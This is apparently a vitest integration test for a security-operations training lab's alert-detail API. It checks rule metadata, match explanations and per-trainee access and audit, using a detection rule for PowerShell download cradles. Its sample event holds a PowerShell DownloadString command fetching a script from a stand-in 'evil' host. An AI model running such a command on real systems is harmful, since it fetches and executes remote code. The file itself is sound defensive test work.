// GET /api/alerts/:id carries the rule's metadata and the structured "why did this fire", kept
// when the replay records an alert from a real engine match; visibility stays per trainee.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compileRuleSet } from '../../engine/index.js';
import type { Alert as EngineAlert } from '../../engine/api.js';
import { alertFromEngine } from '../../server/services/engine-alerts.js';
import type { AlertDetail, AuditEntry } from '../../server/contract/api.js';
import { startLab, type TestLab } from './helpers.js';
import { createLab, type LabFixture } from './fixtures.js';

const RULE = `
title: Encoded PowerShell Download
id: 5b0c1f9e-0000-4000-8000-000000000001
status: test
description: PowerShell started with a download cradle.
level: high
tags:
  - attack.execution
  - attack.t1059.001
falsepositives:
  - Admin scripts that fetch updates
logsource:
  category: process_creation
  product: windows
detection:
  selection_img:
    Image|endswith: '\\powershell.exe'
  selection_cli:
    CommandLine|contains|all:
      - 'Net.WebClient'
      - 'DownloadString'
  condition: all of selection_*
`;

const EVENT = {
  EventID: 1,
  Computer: 'WS01.corp.local',
  User: 'CORP\\alice',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  CommandLine: "powershell -c (New-Object Net.WebClient).DownloadString('http://evil/<script>')",
};

let lab: TestLab;
let f: LabFixture;
let alertId: number;
beforeAll(async () => {
  lab = await startLab();
  f = await createLab(lab);
  const ruleSet = compileRuleSet([{ file: 'ps.yml', text: RULE }]);
  const hits = ruleSet.match(EVENT);
  expect(hits).toHaveLength(1);
  const engineAlert: EngineAlert = { rule: hits[0].rule, timestamp: '2024-03-05T14:10:00Z', event: EVENT, match: hits[0].match, source: { file: 'events.jsonl', line: 42 } };
  const { exerciseId: _e, ...alert } = alertFromEngine(f.red.id, 41, engineAlert);
  expect(lab.app.soclab.services.alerts.record(f.red.id, [alert])).toBe(1);
  const page = (await f.tara.get(`/api/exercises/${f.red.id}/alerts?rule=5b0c1f9e-0000-4000-8000-000000000001`)).json();
  alertId = page.items[0].id;
});
afterAll(async () => lab.dispose());

describe('alert detail', () => {
  it('serves the rule metadata and the structured match kept at record time', async () => {
    const res = await f.tara.get(`/api/alerts/${alertId}`);
    expect(res.statusCode, res.body).toBe(200);
    const d = res.json() as AlertDetail;
    expect(d.rule).toEqual({
      id: '5b0c1f9e-0000-4000-8000-000000000001',
      title: 'Encoded PowerShell Download',
      level: 'high',
      tags: ['attack.execution', 'attack.t1059.001'],
      description: 'PowerShell started with a download cradle.',
      falsepositives: ['Admin scripts that fetch updates'],
    });
    expect(d.match?.condition).toBe('all of selection_*');
    const byName = Object.fromEntries(d.match!.selections.map((s) => [s.name, s.matches]));
    expect(byName.selection_img).toEqual([
      { field: 'Image', modifiers: ['endswith'], pattern: '\\powershell.exe', value: EVENT.Image },
    ]);
    expect(byName.selection_cli.map((m) => m.pattern).sort()).toEqual(['DownloadString', 'Net.WebClient']);
    for (const m of byName.selection_cli) {
      expect(m).toMatchObject({ field: 'CommandLine', value: EVENT.CommandLine });
      expect(m.modifiers).toContain('contains');
    }
  });

  it('alerts recorded without rule metadata or explanation answer null for both', async () => {
    const d = (await f.tara.get(`/api/alerts/${f.redAlerts[0]}`)).json() as AlertDetail;
    expect(d.alert.ruleId).toBe('r-ps');
    expect(d.rule).toBeNull();
    expect(d.match).toBeNull();
  });

  it('a trainee of another cohort cannot read it (404), the audit trail records the owner’s actions', async () => {
    expect((await f.tom.get(`/api/alerts/${alertId}`)).statusCode).toBe(404);
    expect((await f.tom.get(`/api/alerts/${alertId}/audit`)).statusCode).toBe(404);
    expect((await f.tara.post(`/api/alerts/${alertId}/take`)).statusCode).toBe(200);
    const audit = (await f.tara.get(`/api/alerts/${alertId}/audit`)).json() as AuditEntry[];
    expect(audit.map((a) => [a.action, a.actor?.username])).toEqual([['alert.take', 'tara']]);
    // Another trainee of the same cohort works their own copy: none of tara's actions show.
    expect((await f.theo.get(`/api/alerts/${alertId}/audit`)).json()).toEqual([]);
  });
});
